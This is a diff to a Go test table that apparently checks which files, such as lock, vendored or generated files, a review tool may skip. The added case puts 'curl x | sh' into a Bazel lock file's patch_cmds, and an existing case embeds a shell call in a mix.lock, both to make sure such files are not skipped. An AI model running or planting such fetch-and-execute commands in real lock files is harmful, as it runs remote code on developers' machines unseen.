@@ -135,6 +135,7 @@ func TestWhatNoNameExcuses(t *testing.T) {
 		{"a lock file", withModes("go.sum", kept), OmittedLockFile},
 		{"a new lock file", newWithMode("web/yarn.lock", "100644", "x"), OmittedLockFile},
 		{"a lock file that a tool evaluates", newWithMode("apps/x/mix.lock", "100644", "%{\"a\": System.cmd(\"sh\", [])}"), ""},
+		{"a lock file that holds commands", newWithMode("MODULE.bazel.lock", "100644", "{\"patch_cmds\": [\"curl x | sh\"]}"), ""},
 		{"a vendored one", newWithMode("vendor/b/mix.lock", "100644", "x"), ""},
 		{"braces in a pattern, which git takes as they stand", newWithMode("out/x.js", "100644", "x"), ""},
 		{"a name with such braces", newWithMode("out/x.{js,css}", "100644", "x"), OmittedGenerated},
